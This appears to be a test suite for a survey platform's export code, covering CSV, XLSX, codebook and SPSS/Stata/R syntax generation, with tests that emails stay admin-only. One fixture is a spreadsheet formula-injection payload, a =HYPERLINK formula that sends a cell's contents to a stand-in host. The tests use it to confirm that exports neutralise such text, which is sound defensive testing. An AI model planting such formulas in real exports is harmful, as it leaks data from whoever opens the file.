import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import type { StaffUser } from "../../../lib/auth/current-user";
import { exportCodebook } from "../../../lib/exports/export-codebook";
import { exportResponses } from "../../../lib/exports/export-responses";
import { exportSyntax } from "../../../lib/exports/export-syntax";
import { neutraliseText } from "../../../lib/files/cells";
import { csvLine } from "../../../lib/files/csv";
import type { SurveyDefinitionInput } from "../../../lib/surveys/definition";
import { createTestDb, testKey, type TestDb } from "../helpers/test-db";
import { bytes, text } from "../recruitment/demo-study";
import { readCsv } from "../../fixtures/csv";
import { addPeople, makeStudy } from "./small-study";

const A: SurveyDefinitionInput = {
  title: { en: "Wave 1" }, languages: ["en", "uk"], defaultLanguage: "en",
  pages: [{ id: "p1", questions: [
    { name: "age_group", type: "single", label: { en: "How old are you?", uk: "Скільки вам років?" }, options: [
      { code: "under_30", label: { en: "Under 30", uk: "Молодше 30" } },
      { code: "30_39", label: { en: "30–39", uk: "30–39" } },
      { code: "60_plus", label: { en: "60 or older", uk: "60 і старше" } },
    ] },
    { name: "comment", type: "textarea", label: { en: "Anything else?", uk: "Щось іще?" } },
    { name: "email", type: "email", label: { en: "Email" } },
  ] }],
};
const R = "${where_now} = 'returned'";
const M = "${where_now} = 'moved_on'";
const B: SurveyDefinitionInput = {
  title: { en: "Wave 2" }, languages: ["en", "uk"], defaultLanguage: "en",
  pages: [
    { id: "where", questions: [{ name: "where_now", type: "single", label: { en: "Where do you live now?" }, options: [
      { code: "stayed", label: { en: "Norway" } }, { code: "returned", label: { en: "Ukraine" } }, { code: "moved_on", label: { en: "Elsewhere" } },
    ] }] },
    { id: "why", relevant: "${where_now} != 'stayed'", questions: [
      { name: "reasons", type: "multiple", other: true, label: { en: "Why did you leave?" }, options: [
        { code: "home", relevant: R, label: { en: "Ukraine is my home" } },
        { code: "family", label: { en: "Family back home / Closer to family" }, labelVariants: [
          { when: R, label: { en: "To be with family members back in Ukraine" } },
          { when: M, label: { en: "To be closer to family and friends" } },
        ] },
        { code: "work", label: { en: "Could not find work" } },
        { code: "other", label: { en: "Other reason" } },
      ] },
      { name: "times", type: "integer", label: { en: "How many moves?" } },
    ] },
  ],
};

let t: TestDb;
let s: Awaited<ReturnType<typeof makeStudy>>;
const admin: StaffUser = { id: "admin-1", email: "a@example.org", name: "A", role: "admin" };
const NOW = new Date("2023-06-01T12:00:00Z");
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

beforeAll(async () => {
  t = await createTestDb();
  s = await makeStudy(t.db, [{ slug: "wave-1", def: A }, { slug: "wave-2", def: B }]);
  await addPeople(t.db, s, [
    { n: 1, email: "one@example.org", responses: [
      { wave: "wave-1", answers: { age_group: "under_30", comment: EVIL } },
      { wave: "wave-2", answers: { where_now: "returned", reasons: ["home", "family"], times: 3 } },
    ] },
    { n: 2, email: "two@example.org", responses: [
      { wave: "wave-1", answers: { age_group: "30_39", comment: 'Fine, "thanks"\nsecond line' } },
      { wave: "wave-2", answers: { where_now: "moved_on", reasons: ["family", "other"], reasons_other: "+47 call me", times: -2 } },
    ] },
    { n: 3, email: "three@example.org", withdrawn: true, responses: [{ wave: "wave-1", answers: { age_group: "60_plus", comment: "@admin" } }] },
    { n: 4, responses: [{ wave: "wave-2", status: "started", answers: { where_now: "stayed" } }] },
  ]);
});
afterAll(async () => {
  await t?.drop();
});

const csvOf = async (q: Record<string, string>, user: StaffUser = admin) => readCsv(await text((await exportResponses(t.db, testKey, user, s.slug, q, NOW)).body));
const col = (rows: string[][], name: string) => rows.slice(1).map((r) => r[rows[0].indexOf(name)]);

describe("cells", () => {
  it.each([
    ["=1+1", "'=1+1"], ["+47", "'+47"], ["-x", "'-x"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "'\rx"], ["plain", "plain"], [" =1", " =1"],
  ])("neutralises %j as %j", (input, out) => expect(neutraliseText(input)).toBe(out));

  it("keeps numbers numbers and quotes what needs quoting", () => {
    expect(csvLine([-2, 3.5, null, "a,b", 'say "hi"', "x\ny"])).toBe('-2,3.5,,"a,b","say ""hi""","x\ny"\r\n');
  });
});

describe("response exports", () => {
  it("exports wide: one row per participant, each wave's variables prefixed by its slug", async () => {
    const rows = await csvOf({});
    expect(rows[0]).toEqual([
      "code",
      "wave_1_status", "wave_1_trajectory", "wave_1_language", "wave_1_completed_at", "wave_1_age_group", "wave_1_comment",
      "wave_2_status", "wave_2_trajectory", "wave_2_language", "wave_2_completed_at", "wave_2_where_now",
      "wave_2_reasons_home", "wave_2_reasons_family", "wave_2_reasons_work", "wave_2_reasons_other", "wave_2_reasons_other_text", "wave_2_times",
    ]);
    expect(col(rows, "code")).toEqual(["P-1", "P-2", "P-3"]);
    expect(col(rows, "wave_1_age_group")).toEqual(["under_30", "30_39", "60_plus"]);
    // Multi-select: one 0/1 column per option, empty where the question was not answered.
    expect(["home", "family", "work", "other"].map((o) => col(rows, `wave_2_reasons_${o}`))).toEqual([
      ["1", "0", ""], ["1", "1", ""], ["0", "0", ""], ["0", "1", ""],
    ]);
    expect(col(rows, "wave_2_reasons_other_text")).toEqual(["", "'+47 call me", ""]);
    expect(col(rows, "wave_2_times")).toEqual(["3", "-2", ""]);
    expect(col(rows, "wave_2_trajectory")).toEqual(["returned", "moved_on", ""]);
    expect(rows.flat().join()).not.toContain("@example.org");
  });

  it("exports =HYPERLINK(...) and every other formula-like text inert", async () => {
    const raw = await text((await exportResponses(t.db, testKey, admin, s.slug, {}, NOW)).body);
    expect(raw).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const rows = readCsv(raw);
    expect(col(rows, "wave_1_comment")).toEqual([`'${EVIL}`, 'Fine, "thanks"\nsecond line', "'@admin"]);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await bytes((await exportResponses(t.db, testKey, admin, s.slug, { format: "xlsx" }, NOW)).body)) as never);
    const data = wb.getWorksheet("data")!;
    const cells: ExcelJS.Cell[] = [];
    data.eachRow((r) => r.eachCell((c) => cells.push(c)));
    expect(cells.some((c) => c.value === `'${EVIL}`)).toBe(true);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
    expect(cells.every((c) => typeof c.value !== "string" || !/^[=+\-@\t\r]/.test(c.value))).toBe(true);
    expect(cells.some((c) => c.value === -2)).toBe(true);
    expect(wb.getWorksheet("codebook")!.getRow(1).getCell(1).value).toBe("column");
  });

  it("exports long: one row per participant and wave, with the union of the waves' variables", async () => {
    const rows = await csvOf({ shape: "long" });
    expect(rows[0].slice(0, 6)).toEqual(["code", "wave", "status", "trajectory", "language", "completed_at"]);
    expect(rows.slice(1).map((r) => `${r[0]}/${r[1]}`)).toEqual(["P-1/wave-1", "P-1/wave-2", "P-2/wave-1", "P-2/wave-2", "P-3/wave-1"]);
    expect(rows[0]).toContain("age_group");
    expect(rows[0]).toContain("reasons_family");
    expect(rows[0].filter((c) => c.startsWith("reasons_family"))).toEqual(["reasons_family"]);
    expect(col(rows, "times")).toEqual(["", "3", "", "-2", ""]);
  });

  it("includes started responses when asked, and prefixes the Excel byte-order mark", async () => {
    const raw = await text((await exportResponses(t.db, testKey, admin, s.slug, { shape: "long", completed: "false", bom: "true" }, NOW)).body);
    expect(raw.charCodeAt(0)).toBe(0xfeff);
    const rows = readCsv(raw);
    expect(rows.slice(1).map((r) => `${r[0]}/${r[1]}/${r[2]}`)).toContain("P-4/wave-2/started");
  });

  it("adds emails only for an admin who asks, never for a withdrawn participant", async () => {
    const rows = await csvOf({ identifiers: "true" });
    expect(rows[0].slice(0, 2)).toEqual(["code", "email"]);
    expect(col(rows, "email")).toEqual(["one@example.org", "two@example.org", ""]);
    await expect(exportResponses(t.db, testKey, s.researcher, s.slug, { identifiers: "true" }, NOW)).rejects.toMatchObject({ status: 403 });
    expect((await csvOf({}, s.researcher))[0]).not.toContain("email");
  });

  it("exports a codebook: labels per language, type, value labels and the condition each was shown under", async () => {
    const rows = readCsv(await text((await exportCodebook(t.db, admin, s.slug, {}, NOW)).body));
    const h = rows[0];
    expect(h).toEqual(["column", "wave", "variable", "type", "label_uk", "label_ru", "label_nb", "label_en", "value_labels_uk", "value_labels_ru", "value_labels_nb", "value_labels_en", "shown_when", "wording_variants", "table"]);
    const row = (name: string) => Object.fromEntries(h.map((k, i) => [k, rows.find((r) => r[0] === name)![i]]));
    expect(row("wave_1_age_group")).toMatchObject({ wave: "wave-1", type: "single", label_en: "How old are you?", label_uk: "Скільки вам років?", value_labels_en: "under_30 = Under 30; 30_39 = 30–39; 60_plus = 60 or older" });
    expect(row("wave_2_reasons_home")).toMatchObject({
      variable: "reasons", type: "option", label_en: "Why did you leave? – Ukraine is my home", value_labels_en: "0 = No; 1 = Yes",
      shown_when: "(${where_now} != 'stayed') and (${where_now} = 'returned')",
    });
    expect(row("wave_2_reasons_family").wording_variants).toBe(`${R}: To be with family members back in Ukraine; ${M}: To be closer to family and friends`);
    expect(row("wave_2_reasons_other_text")).toMatchObject({ variable: "reasons_other", type: "other", shown_when: "(${where_now} != 'stayed') and (selected(${reasons}, 'other'))" });
    expect(rows.map((r) => r[0])).not.toContain("wave_1_email");
  });

  it("writes SPSS, Stata and R files that read the CSV and apply the labels", async () => {
    const sps = await text((await exportSyntax(t.db, admin, s.slug, "spss", {}, NOW)).body);
    expect(sps).toContain(`/FILE='${s.slug}-wide-2023-06-01.csv'`);
    expect(sps).toContain("    wave_2_times F8.0");
    expect(sps).toContain("    wave_1_age_group A64");
    expect(sps).toContain("  /wave_1_age_group 'How old are you?'");
    expect(sps).toContain("  /wave_1_age_group 'under_30' 'Under 30' '30_39' '30–39' '60_plus' '60 or older'");
    expect(sps).toContain("wave_2_reasons_home 0 'No' 1 'Yes'");

    const dofile = await text((await exportSyntax(t.db, admin, s.slug, "stata", { shape: "long" }, NOW)).body);
    expect(dofile).toContain(`import delimited using "${s.slug}-long-2023-06-01.csv", varnames(nonames) rowrange(2)`);
    expect(dofile).toContain("rename v1 code");
    expect(dofile).toMatch(/replace _pw_tmp = 1 if age_group == `"under_30"'/);
    expect(dofile).toMatch(/label define L\d+ 1 `"Under 30"' 2 `"30–39"' 3 `"60 or older"', replace/);

    const r = await text((await exportSyntax(t.db, admin, s.slug, "r", { lang: "uk" }, NOW)).body);
    expect(r).toContain('fileEncoding = "UTF-8-BOM"');
    expect(r).toContain('d[["wave_1_age_group"]] <- factor(d[["wave_1_age_group"]], levels = c("under_30", "30_39", "60_plus"), labels = c("Молодше 30", "30–39", "60 і старше"))');
    expect(r).toContain('attr(d[["wave_2_reasons_home"]], "labels") <- c("Ні" = 0, "Так" = 1)');

    // Labels come in any of the study's languages (uk, ru, nb, en), none other.
    await expect(exportSyntax(t.db, admin, s.slug, "r", { lang: "fr" }, NOW)).rejects.toMatchObject({
      status: 422, issues: [{ path: "lang", message: "Choose one of the study's languages: uk, ru, nb, en" }],
    });
  });

  it("streams a large export in batches with flat memory (keyset paging over participants)", async () => {
    const many = Array.from({ length: 1100 }, (_, i) => ({ n: 100 + i, responses: [{ wave: "wave-2", answers: { where_now: "returned", reasons: ["work"], times: i } }] }));
    await addPeople(t.db, s, many);
    const dl = await exportResponses(t.db, testKey, admin, s.slug, { waves: "wave-2" }, NOW);
    const rows = readCsv(await text(dl.body));
    expect(rows.length - 1).toBe(dl.rows);
    expect(dl.rows).toBe(1102);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(1102);
  });
});
